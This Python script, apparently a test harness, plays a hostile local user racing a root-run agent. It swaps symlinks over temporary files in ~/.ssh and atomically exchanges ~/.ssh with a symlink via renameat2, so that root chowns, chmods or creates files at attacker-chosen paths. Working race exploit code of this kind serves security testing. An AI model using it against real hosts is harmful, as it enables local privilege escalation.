"""A hostile local user racing the agent in its own home (run it under
`setpriv --reuid`). Until killed, it:

  swap-tmp   renames a symbolic link to TARGET over every temporary file that
             appears in ~/.ssh, hoping root then chowns or chmods TARGET;
  exchange   atomically exchanges ~/.ssh with a symbolic link to OUTSIDE
             (renameat2 RENAME_EXCHANGE) and back, hoping root then creates,
             chowns or chmods things in OUTSIDE.

Usage: attacker.py swap-tmp|exchange HOME TARGET OUTSIDE
Prints how many times it tried and how many moves it made when it gets SIGTERM.
"""
import ctypes
import os
import signal
import sys

RENAME_EXCHANGE = 2
AT_FDCWD = -100

libc = ctypes.CDLL(None, use_errno=True)
renameat2 = libc.renameat2
renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]

moves = 0
attempts = 0


def stop(*_):
    print(attempts, moves, flush=True)
    sys.exit(0)


def swap_tmp(home, target):
    global moves, attempts
    ssh = os.path.join(home, ".ssh")
    evil = os.path.join(home, ".evil-link")
    while True:
        attempts += 1
        try:
            names = os.listdir(ssh)
        except OSError:
            continue
        for n in names:
            if not n.endswith(".tmp"):
                continue
            try:
                os.symlink(target, evil)
            except FileExistsError:
                pass
            except OSError:
                continue
            try:
                os.rename(evil, os.path.join(ssh, n))
                moves += 1
            except OSError:
                pass


def exchange(home, outside):
    global moves, attempts
    ssh = os.path.join(home, ".ssh").encode()
    link = os.path.join(home, ".ssh-link").encode()
    try:
        os.symlink(outside, link)
    except FileExistsError:
        pass
    while True:
        attempts += 1
        if renameat2(AT_FDCWD, ssh, AT_FDCWD, link, RENAME_EXCHANGE) == 0:
            moves += 1


def main():
    signal.signal(signal.SIGTERM, stop)
    mode, home, target, outside = sys.argv[1:5]
    print("ready", flush=True)
    if mode == "swap-tmp":
        swap_tmp(home, target)
    else:
        exchange(home, outside)


main()
